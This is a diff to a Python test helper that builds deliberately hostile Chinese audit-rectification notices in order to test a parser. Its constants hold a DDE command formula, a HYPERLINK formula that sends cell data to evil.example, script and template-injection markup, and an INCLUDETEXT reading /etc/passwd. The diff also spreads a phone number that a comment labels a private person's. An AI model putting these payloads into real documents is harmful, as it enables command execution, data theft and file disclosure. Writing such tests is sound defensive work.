@@ -21,6 +21,7 @@ PAYLOAD = "cmd|' /C calc'!A0"
 LINK = 'HYPERLINK("http://evil.example/?"&A1,"点我")'
 MARKUP = '<script>alert(1)</script>"\'{{7*7}}]]>&amp;_x003D_ INCLUDETEXT "file:///etc/passwd"'
 FINDING = "差旅费报销审核不严"
+PHONE = "13912345678"  # a private person's, in every title, measure and remark
 
 
 def hostile_services(folder: Path) -> Services:
@@ -41,7 +42,10 @@ def hostile_notice(number: int, start: str) -> Notice:
     """A notice with two problems, everything in it beginning with this. Dates differ, kinds do not."""
     name = f"{start}{PAYLOAD}"
     measures = (
-        M(f"{start}{LINK}修订《{name}办法》,清退超标准报销的差旅费2.{number}万元,已完成。", ("M1", "M7")),
+        M(
+            f"{start}{LINK}修订《{name}办法》,清退超标准报销的差旅费2.{number}万元,已完成,电话{PHONE}。",
+            ("M1", "M7"),
+        ),
         M(f"{start}SUM(1,1){MARKUP},每季度抽查差旅费报销凭证。", ("M3",)),
     )
     made = write_notice(
@@ -49,7 +53,7 @@ def hostile_notice(number: int, start: str) -> Notice:
         f"{name}关于巡察整改进展情况的通报",
         {
             f"{name}方面": (
-                P(f"{name}{FINDING}", ("B8",), measures),
+                P(f"{name}{FINDING}（{PHONE}）", ("B8",), measures),
                 P(
                     f"{start}{LINK}公务接待超标准",
                     ("B7",),
@@ -76,7 +80,7 @@ def _remarked(notice: Notice, measure: Measure, start: str) -> Measure:
     """The measure with a deadline, who is responsible, a document and an amount: all of them hostile words."""
     span = Span(measure.span.start, measure.span.start + len(start) + 3)
     words = span.of(notice.text)
-    remarks = tuple(Attribute(name, words, span) for name in ("整改时限", "责任领导", "完成情况"))
+    remarks = tuple(Attribute(name, f"{words}{PHONE}", span) for name in ("整改时限", "责任领导", "完成情况"))
     facts = (
         Fact(FactKind.DOCUMENT, words, words, "", span),
         Fact(FactKind.AMOUNT, words, "26000", "元", span),
